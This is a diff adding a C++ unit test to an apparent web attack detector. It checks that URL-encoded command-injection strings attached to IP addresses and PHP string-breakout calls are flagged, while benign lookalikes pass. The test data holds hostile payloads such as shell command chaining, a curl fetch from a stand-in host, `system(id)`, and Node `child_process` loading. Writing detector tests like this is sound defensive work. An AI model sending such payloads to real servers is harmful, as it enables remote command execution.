@@ -325,6 +325,22 @@ TEST_F(DetectorsTest, ShortPaddedBase64IsDecoded) {
   }
 }
 
+// A diagnostics page's address with a command joined to it; a PHP string broken out of to
+// call a function between two concatenations.
+TEST_F(DetectorsTest, AddressWithAJoinedCommandAndConcatenatedCall) {
+  for (const char* q : {"127.0.0.1%7Cecho%20oJYD00X6Ftx", "8.8.8.8%3B%20id", "10.0.0.1%20%26%26%20curl%20http%3A%2F%2Fx.example%2Fa",
+                        "192.168.1.1%60id%60", "1.1.1.1%24(whoami)"}) {
+    EXPECT_TRUE(detects(query(q), AttackClass::Rce)) << q;
+  }
+  for (const char* q : {"10.0.0.1%3B10.0.0.2", "127.0.0.1%7CHome", "8.8.8.8%20%7C%208.8.4.4", "1.2.3.4%3Bport%3D80"}) {
+    EXPECT_TRUE(clean(query(q))) << q;
+  }
+  EXPECT_TRUE(detects(query("test%22.system(id).%22"), AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(query("x%27.phpinfo().%27"), AttackClass::CodeInjection));
+  EXPECT_TRUE(detects(query("system(%5C%27ver%5C%27)"), AttackClass::CodeInjection));
+  EXPECT_TRUE(clean(query("the+%22sum()%22+and+%22avg()%22+functions")));
+}
+
 TEST_F(DetectorsTest, NodeModuleLoaderReflection) {
   for (const char* q : {"%23%7Brequire.main.constructor._load(%27fs%27).readdirSync(%27.%27)%7D",
                         "module.constructor._load(%27child_process%27)",
